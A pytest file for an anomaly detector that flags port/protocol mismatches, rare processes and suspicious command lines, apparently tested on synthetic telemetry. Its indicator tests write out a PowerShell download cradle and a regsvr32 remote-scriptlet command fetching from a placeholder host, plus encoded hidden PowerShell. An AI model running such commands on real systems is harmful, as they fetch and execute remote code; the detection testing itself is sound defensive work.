from __future__ import annotations

import itertools
from collections.abc import Iterable, Sequence

import pytest

from detectors.an1962 import UncommonFlows
from detectors.features.cmdline import command_line_indicators, user_writable_image
from detectors.features.portproto import (
    IMPERSONATION,
    ODD_PORT,
    is_local_address,
    port_protocol_verdict,
)
from harness.alerts import Alert
from harness.events import (
    NS_PER_S,
    AnomalyKind,
    AppProtocol,
    Direction,
    Event,
    NetworkFlow,
    ProcessStart,
    ProtocolAnomaly,
    Transport,
)
from harness.fields import PROFILE_FIELDS, Profile
from harness.runner import DetectorRun, DetectorSpec, Outcome, run_detectors
from harness.scenario import ScenarioRun
from harness.truth import ActorKind
from scenarios.attacks import ProtocolAnomalies
from tests.conftest import SMALL

T0 = 1_800_000_000 * NS_PER_S
DAY = 86_400 * NS_PER_S
DET = T0 + 3 * DAY  # start of the detection window in these hand-built streams
HOST_IP = {f"ws{i}": f"192.0.2.{100 + i}" for i in range(10)}
C2 = "203.0.113.66"
_ids = itertools.count(1)


def _eid() -> str:
    return f"x{next(_ids)}"


def proc(
    host: str,
    ts: int,
    image: str,
    cmd: str | None = None,
    *,
    signer: str | None = None,
    parent: ProcessStart | None = None,
) -> ProcessStart:
    return ProcessStart(
        event_id=_eid(),
        ts_ns=ts,
        host=host,
        process_guid=f"g{next(_ids)}",
        pid=4,
        image=image,
        name=image.rsplit("\\", 1)[-1],
        command_line=cmd if cmd is not None else image,
        parent_guid=parent.process_guid if parent else None,
        user="u",
        signer=signer,
    )


def flow(
    host: str,
    ts: int,
    *,
    dst: str = C2,
    port: int = 443,
    app: AppProtocol = AppProtocol.TLS,
    transport: Transport = Transport.TCP,
    p: ProcessStart | None = None,
    sport: int | None = None,
    direction: Direction = Direction.OUTBOUND,
    start: int | None = None,
    bytes_out: int = 900,
    bytes_in: int = 4_000,
) -> NetworkFlow:
    return NetworkFlow(
        event_id=_eid(),
        ts_ns=ts,
        flow_id=f"f{next(_ids)}",
        host=host,
        process_guid=p.process_guid if p else None,
        transport=transport,
        src_ip=HOST_IP[host],
        src_port=sport if sport is not None else 49_152 + next(_ids) % 16_000,
        dst_ip=dst,
        dst_port=port,
        direction=direction,
        app_protocol=app,
        start_ns=start if start is not None else ts - NS_PER_S,
        end_ns=ts,
        bytes_out=bytes_out,
        bytes_in=bytes_in,
        packets_out=5,
        packets_in=5,
    )


def anomaly(
    ts: int,
    kind: AnomalyKind,
    *,
    src: tuple[str, int] = (C2, 40_001),
    dst: tuple[str, int] = (HOST_IP["ws1"], 445),
    host: str | None = "ws1",
    transport: Transport = Transport.TCP,
    app: AppProtocol = AppProtocol.UNKNOWN,
) -> ProtocolAnomaly:
    return ProtocolAnomaly(
        event_id=_eid(),
        ts_ns=ts,
        host=host,
        transport=transport,
        src_ip=src[0],
        src_port=src[1],
        dst_ip=dst[0],
        dst_port=dst[1],
        anomaly=kind,
        detail=kind.value,
        app_protocol=app,
    )


def baseline() -> list[Event]:
    """Three quiet days: browsers on every host, a resolver, Notepad that never talks."""
    events: list[Event] = []
    for i, host in enumerate(HOST_IP):
        chrome = proc(host, T0 + i, r"C:\Program Files\Google\Chrome\chrome.exe", signer="G")
        notepad = proc(host, T0 + 10 + i, r"C:\Windows\System32\notepad.exe", signer="MS")
        rundll = proc(
            host,
            T0 + 20 + i,
            r"C:\Windows\System32\rundll32.exe",
            "rundll32.exe shell32.dll,Control_RunDLL",
            signer="MS",
        )
        word = proc(
            host,
            T0 + 30 + i,
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            signer="MS",
        )
        events += [chrome, notepad, rundll, word]
        for d in range(3):
            events.append(flow(host, T0 + d * DAY + 3_600 * NS_PER_S + i, p=chrome))
            events.append(
                flow(
                    host,
                    T0 + d * DAY + 7_200 * NS_PER_S + i,
                    dst="192.0.2.10",
                    port=53,
                    app=AppProtocol.DNS,
                    transport=Transport.UDP,
                    direction=Direction.INTERNAL,
                )
            )
    return sorted(events, key=lambda e: e.ts_ns)


def run(
    detection: Iterable[Event], base: Sequence[Event] | None = None, **tunables: float
) -> list[Alert]:
    """Fit on ``base`` (default: :func:`baseline`), stream ``detection``, check the contract."""
    history = baseline() if base is None else list(base)
    det = UncommonFlows(**tunables)
    det.fit(history)
    shown = {e.event_id for e in history}
    alerts: list[Alert] = []
    for event in sorted(detection, key=lambda e: e.ts_ns):
        shown.add(event.event_id)
        alerts += det.observe(event)
    alerts += det.flush()
    for alert in alerts:
        assert alert.analytic == "AN1962"
        assert alert.evidence, "an alert must cite evidence"
        assert set(alert.evidence) <= shown, "an alert cites an event it was not shown"
        assert alert.reason
        assert "\n" not in alert.reason
        assert 0.0 <= alert.score <= 1.0
    return alerts


# -- port/protocol mismatch from flows ------------------------------------------------------------


def test_plain_http_on_443_alerts_once_per_episode_and_again_after_a_quiet_gap() -> None:
    sessions = [
        flow("ws2", DET + k * 120 * NS_PER_S, app=AppProtocol.HTTP, port=443) for k in range(10)
    ]
    later = [
        flow("ws2", DET + 5 * 3_600 * NS_PER_S + k * 120 * NS_PER_S, app=AppProtocol.HTTP)
        for k in range(3)
    ]
    alerts = run([*sessions, *later])
    assert len(alerts) == 2
    first = alerts[0]
    assert set(first.evidence) == {sessions[0].event_id, sessions[1].event_id}
    assert first.ts_ns == sessions[1].ts_ns
    assert (first.entity.dst_ip, first.entity.dst_port) == (C2, 443)
    assert "HTTP on tcp/443" in first.reason
    assert alerts[1].evidence[0] == later[0].event_id  # a new episode starts from scratch


def test_tls_on_53_and_dns_off_53_are_impersonation() -> None:
    tls53 = [flow("ws3", DET + k * 60 * NS_PER_S, port=53) for k in range(2)]
    dns5353 = [
        flow(
            "ws4",
            DET + k * 60 * NS_PER_S,
            dst="198.51.100.7",
            port=5353,
            app=AppProtocol.DNS,
            transport=Transport.UDP,
        )
        for k in range(2)
    ]
    alerts = run([*tls53, *dns5353])
    assert sorted(a.entity.host or "" for a in alerts) == ["ws3", "ws4"]


def test_quic_rtp_and_mdns_look_alikes_do_not_alert() -> None:
    events: list[Event] = []
    for k in range(30):
        ts = DET + k * 30 * NS_PER_S
        udp = Transport.UDP
        events += [
            flow("ws1", ts, port=443, app=AppProtocol.QUIC, transport=udp),
            flow("ws1", ts, port=443, app=AppProtocol.UNKNOWN, transport=udp),
            flow("ws2", ts, port=3479, app=AppProtocol.RTP, transport=udp),
            flow("ws3", ts, port=50_000, app=AppProtocol.TLS, transport=udp),  # DTLS media
            flow("ws4", ts, dst="224.0.0.251", port=5353, app=AppProtocol.DNS, transport=udp),
            flow("ws5", ts, dst="224.0.0.252", port=5355, app=AppProtocol.DNS, transport=udp),
            flow("ws6", ts, port=4444, app=AppProtocol.UNKNOWN),  # custom protocol: not ours
            flow("ws7", ts, port=8443),  # TLS on its alternative port
        ]
        events.append(
            anomaly(
                ts,
                AnomalyKind.MALFORMED_DNS,
                src=(HOST_IP["ws4"], 5353),
                dst=("224.0.0.251", 5353),
                transport=udp,
                app=AppProtocol.DNS,
            )
        )
    assert run(events) == []


def test_internal_mismatch_is_not_judged() -> None:
    events = [
        flow("ws1", DET + k * NS_PER_S, dst="192.0.2.20", app=AppProtocol.HTTP, port=443,
             direction=Direction.INTERNAL)
        for k in range(10)
    ]  # fmt: skip
    assert run(events) == []


def test_odd_port_seen_in_the_baseline_is_known_and_new_one_needs_four_sessions() -> None:
    updater = "203.0.113.80"
    base = baseline() + [
        flow("ws1", T0 + DAY + k * NS_PER_S, dst=updater, port=8531) for k in (1, 2)
    ]
    base.sort(key=lambda e: e.ts_ns)
    known = [flow("ws5", DET + k * 600 * NS_PER_S, dst=updater, port=8531) for k in range(8)]
    new = [flow("ws6", DET + k * 600 * NS_PER_S, dst=C2, port=8531) for k in range(8)]
    alerts = run([*known, *new], base)
    assert len(alerts) == 1
    assert alerts[0].entity.dst_ip == C2
    assert set(alerts[0].evidence) == {e.event_id for e in new[:4]}


def test_unknown_payload_on_443_needs_data_both_ways_and_a_seen_handshake() -> None:
    unknown = AppProtocol.UNKNOWN
    early = [  # under way when the recording started: payload unidentifiable
        flow("ws1", T0 + k * 400 * NS_PER_S, app=unknown, start=T0 + k) for k in range(5)
    ]
    one_way = [flow("ws2", DET + k * 400 * NS_PER_S, app=unknown, bytes_in=0) for k in range(5)]
    mid: list[Event] = []
    for k in range(5):  # idle since before the recording, then talks: the sensor saw no SYN
        ts = DET + k * 400 * NS_PER_S
        mid.append(
            anomaly(
                ts - NS_PER_S,
                AnomalyKind.NO_HANDSHAKE,
                src=(HOST_IP["ws3"], 50_000 + k),
                dst=(C2, 443),
                host="ws3",
            )
        )
        mid.append(flow("ws3", ts, app=unknown, sport=50_000 + k))
    assert run([*early, *one_way, *mid], base=[]) == []
    resumed = [  # one long connection reported in many records counts once
        flow("ws5", DET + k * 60 * NS_PER_S, app=unknown, sport=51_515) for k in range(30)
    ]
    assert run(resumed) == []
    real = [flow("ws4", DET + k * 400 * NS_PER_S, app=unknown) for k in range(5)]
    (alert,) = run(real)
    assert "non-TLS payload on tcp/443" in alert.reason


# -- packet-inspection anomalies --------------------------------------------------------------


def _recording_start() -> NetworkFlow:
    """One ordinary lookup at T0: the recording (network-only, no baseline) starts there."""
    return flow(
        "ws9",
        T0,
        dst="192.0.2.10",
        port=53,
        app=AppProtocol.DNS,
        transport=Transport.UDP,
        direction=Direction.INTERNAL,
    )


def _extraneous(start: int) -> list[ProtocolAnomaly]:
    kinds = (
        AnomalyKind.NO_HANDSHAKE,
        AnomalyKind.OUT_OF_WINDOW,
        AnomalyKind.INJECTED_RESET,
        AnomalyKind.MALFORMED_DNS,
        AnomalyKind.WRONG_DIRECTION_FIRST_DATA,
    )
    out = []
    for i in range(10):
        kind = kinds[i % 5]
        dns = kind is AnomalyKind.MALFORMED_DNS
        out.append(
            anomaly(
                start + i * 300 * NS_PER_S,
                kind,
                src=(C2, 53 if dns else 40_000 + i),
                dst=(HOST_IP["ws1"], 53 if dns else 3389),
                transport=Transport.UDP if dns else Transport.TCP,
                app=AppProtocol.DNS if dns else AppProtocol.UNKNOWN,
            )
        )
    return out


def test_extraneous_packets_of_many_kinds_alert_once_in_network_only_telemetry() -> None:
    packets = _extraneous(DET)
    (alert,) = run(packets, base=[_recording_start()])
    assert alert.ts_ns == packets[4].ts_ns  # the fifth kind tips it
    assert set(alert.evidence) == {a.event_id for a in packets[:5]}
    assert (alert.entity.host, alert.entity.process_guid) == ("ws1", None)
    assert f"{C2} (external)" in alert.reason


def test_capture_start_artefacts_do_not_count() -> None:
    # The recording starts at T0: the first minutes are full of mid-connection artefacts.
    first = [anomaly(T0 + NS_PER_S, AnomalyKind.NO_HANDSHAKE)]
    packets = [*first, *_extraneous(T0 + 10 * NS_PER_S)[1:4]]
    # And later the sensor re-reports one of those connections; it was under way at the start.
    early_conn = flow("ws1", T0 + 2 * NS_PER_S, start=T0, sport=51_000, port=443)
    late = [
        anomaly(T0 + k * 600 * NS_PER_S, kind, src=(HOST_IP["ws1"], 51_000), dst=(C2, 443))
        for k in range(2, 6)
        for kind in (AnomalyKind.OUT_OF_WINDOW, AnomalyKind.WRONG_DIRECTION_FIRST_DATA)
    ]
    assert run([*packets, early_conn, *late], base=[]) == []


def test_weak_kinds_repeated_on_one_pair_stay_below_the_threshold() -> None:
    events = []
    for k in range(12):  # resets from a firewall, retransmissions, a connection seen midway
        ts = DET + k * 240 * NS_PER_S
        for j, kind in enumerate(
            (AnomalyKind.INJECTED_RESET, AnomalyKind.OUT_OF_WINDOW, AnomalyKind.NO_HANDSHAKE)
        ):
            events.append(anomaly(ts + j, kind, src=(C2, 443), dst=(HOST_IP["ws2"], 50_000 + k)))
    assert run(events) == []


def test_server_first_ports_and_name_services_are_discounted() -> None:
    events = []
    for k in range(10):
        ts = DET + k * 120 * NS_PER_S
        client = (HOST_IP["ws1"], 50_000 + k)
        events.append(anomaly(ts, AnomalyKind.WRONG_DIRECTION_FIRST_DATA, src=(C2, 25), dst=client))
        llmnr = (HOST_IP["ws1"], 5355)
        events.append(
            anomaly(
                ts, AnomalyKind.MALFORMED_DNS, src=(C2, 5355), dst=llmnr, transport=Transport.UDP
            )
        )
    assert run(events) == []


def test_sensor_mismatch_for_a_protocol_the_table_accepts_does_not_count() -> None:
    turn = [  # meeting media relayed over UDP/443: the sensor expected QUIC there
        anomaly(
            DET + k * 60 * NS_PER_S,
            AnomalyKind.PORT_PROTOCOL_MISMATCH,
            src=(HOST_IP["ws2"], 50_000 + k),
            dst=(C2, 443),
            transport=Transport.UDP,
            app=AppProtocol.RTP,
        )
        for k in range(40)
    ]
    assert run(turn) == []


def test_sensor_mismatch_and_flow_record_of_one_session_count_once() -> None:
    events: list[Event] = []
    for k in range(2):
        ts = DET + k * 120 * NS_PER_S
        sport = 52_000 + k
        events.append(flow("ws2", ts + NS_PER_S, app=AppProtocol.HTTP, sport=sport))
        events.append(
            anomaly(
                ts,
                AnomalyKind.PORT_PROTOCOL_MISMATCH,
                src=(HOST_IP["ws2"], sport),
                dst=(C2, 443),
                host="ws2",
                app=AppProtocol.HTTP,
            )
        )
    alerts = run(events, base=[])
    assert len(alerts) == 1
    assert alerts[0].ts_ns >= DET + 120 * NS_PER_S  # not on the first session's two records


# -- uncommon processes -----------------------------------------------------------------------


def test_first_seen_process_with_encoded_command_from_word_alerts_once() -> None:
    base = baseline()
    word = next(e for e in base if isinstance(e, ProcessStart) and e.name == "WINWORD.EXE")
    image = r"C:\Users\bob\AppData\Roaming\Microsoft\Templates\tmpl32.exe"
    blob = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA"
    tool = proc(word.host, DET, image, f"{image} -e {blob}", parent=word)
    calls = [flow(word.host, DET + (k + 1) * 300 * NS_PER_S, p=tool) for k in range(6)]
    (alert,) = run([tool, *calls], base)
    assert alert.evidence == (tool.event_id, calls[0].event_id)
    assert alert.entity.process_guid == tool.process_guid
    assert "encoded-command" in alert.reason
    assert "started by WINWORD.EXE" in alert.reason
    assert alert.score == 1.0


def test_signed_rollout_of_a_new_app_does_not_alert() -> None:
    image = r"C:\Program Files\Contoso\Meet\ContosoMeet.exe"
    events: list[Event] = []
    for i, host in enumerate(HOST_IP):
        p = proc(host, DET + i * 60 * NS_PER_S, image, f'"{image}" --autostart', signer="Contoso")
        events += [p, *(flow(host, p.ts_ns + k * 300 * NS_PER_S, p=p) for k in range(1, 5))]
    assert run(events) == []


def test_suspicious_new_image_stops_being_rare_once_on_many_hosts() -> None:
    image = r"C:\Users\Public\setup-helper.exe"
    starts = [proc(host, DET + i * NS_PER_S, image) for i, host in enumerate(HOST_IP)]
    flows = [flow(p.host, DET + 600 * NS_PER_S + i, p=p) for i, p in enumerate(starts)]
    assert run([*starts, *flows]) == []  # ten hosts at once before any talked: a rollout
    alone = proc("ws1", DET, image)
    assert len(run([alone, flow("ws1", DET + NS_PER_S, p=alone)])) == 1


def test_network_silent_lolbin_loading_a_user_dll_alerts_but_plain_notepad_does_not() -> None:
    rundll = proc(
        "ws3",
        DET,
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Users\Public\lib.dll,Start",
        signer="MS",
    )
    notepad = proc("ws4", DET, r"C:\Windows\System32\notepad.exe", "notepad.exe", signer="MS")
    alerts = run([rundll, notepad, flow("ws3", DET + NS_PER_S, p=rundll),
                  flow("ws4", DET + NS_PER_S, p=notepad)])  # fmt: skip
    assert [a.entity.process_name for a in alerts] == ["rundll32.exe"]
    assert "never used the network before" in alerts[0].reason


def test_process_alert_carries_the_mismatch_and_the_pair_stays_quiet() -> None:
    image = r"C:\Users\carol\AppData\Local\Temp\wuauclt64.exe"
    tool = proc("ws5", DET, image)
    calls = [
        flow("ws5", DET + (k + 1) * 120 * NS_PER_S, p=tool, app=AppProtocol.HTTP) for k in range(6)
    ]
    (alert,) = run([tool, *calls])
    assert "HTTP on tcp/443, a TLS port" in alert.reason
    assert alert.entity.process_name == "wuauclt64.exe"


# -- declarations and features ----------------------------------------------------------------


def test_evaluable_on_edr_and_network_only() -> None:
    for profile in (Profile.EDR, Profile.NETWORK_ONLY):
        assert UncommonFlows.required_fields <= PROFILE_FIELDS[profile]
    assert sum(spec.primary for spec in UncommonFlows.tunable_specs.values()) == 1


@pytest.mark.parametrize(
    ("app", "transport", "port", "severity"),
    [
        (AppProtocol.TLS, Transport.TCP, 443, None),
        (AppProtocol.HTTP, Transport.TCP, 8080, None),
        (AppProtocol.QUIC, Transport.UDP, 443, None),
        (AppProtocol.UNKNOWN, Transport.TCP, 4444, None),
        (AppProtocol.HTTP, Transport.TCP, 443, IMPERSONATION),
        (AppProtocol.TLS, Transport.TCP, 53, IMPERSONATION),
        (AppProtocol.DNS, Transport.UDP, 5353, IMPERSONATION),
        (AppProtocol.SMB, Transport.TCP, 4445, IMPERSONATION),
        (AppProtocol.TLS, Transport.TCP, 8531, ODD_PORT),
        (AppProtocol.UNKNOWN, Transport.TCP, 443, ODD_PORT),
    ],
)
def test_port_protocol_table(
    app: AppProtocol, transport: Transport, port: int, severity: float | None
) -> None:
    verdict = port_protocol_verdict(app, transport, port)
    assert (verdict.severity if verdict else None) == severity


def test_command_line_and_path_indicators() -> None:
    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    assert command_line_indicators(ps, "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3") == (
        "encoded-command",
        "hidden-powershell",
    )
    assert command_line_indicators(
        ps, "powershell IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
    ) == ("download-cradle",)
    regsvr = r"C:\Windows\System32\regsvr32.exe"
    assert command_line_indicators(regsvr, "regsvr32 /s /i:http://x.example/a.sct scrobj.dll") == (
        "lolbin-remote",
    )
    chrome = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
    assert command_line_indicators(chrome, f'"{chrome}" --type=renderer --lang=en-US') == ()
    assert command_line_indicators(ps, "powershell -File C:\\a\\{0123abcd-4567-89ef}.ps1") == ()
    assert user_writable_image(r"C:\Users\bob\AppData\Local\Temp\x.exe")
    assert user_writable_image(r"C:\ProgramData\Intel\igfxsvc.exe")
    assert not user_writable_image(
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe"
    )
    assert not user_writable_image(r"C:\Program Files\7-Zip\7z.exe")
    assert is_local_address("10.1.2.3")
    assert is_local_address("224.0.0.251")
    assert not is_local_address("203.0.113.9")


# -- end to end -------------------------------------------------------------------------------


@pytest.fixture(scope="module", params=[Profile.EDR, Profile.NETWORK_ONLY], ids=str)
def anomalies_run(request: pytest.FixtureRequest) -> tuple[ScenarioRun, DetectorRun]:
    scenario = ProtocolAnomalies()
    generated = scenario.generate(scenario.params(SMALL), 0, request.param)
    (out,) = run_detectors(generated.telemetry, [DetectorSpec(detector=UncommonFlows)])
    return generated, out


def test_end_to_end_detects_every_observable_actor_without_false_alerts(
    anomalies_run: tuple[ScenarioRun, DetectorRun],
) -> None:
    generated, out = anomalies_run
    assert out.outcome is Outcome.OK
    truth = generated.truth
    hit: set[str] = set()
    for raised in out.alerts:
        actors = {truth.event_actor[e] for e in raised.alert.evidence}
        malicious = {a for a in actors if truth.actor(a).kind is ActorKind.MALICIOUS}
        assert malicious, f"false alert: {raised.alert.reason}"
        hit |= malicious
    expected = {
        a.actor_id
        for a in truth.malicious
        if "AN1962" in a.expected_analytics and a.observable_with <= generated.telemetry.fields
    }
    assert expected
    assert expected <= hit
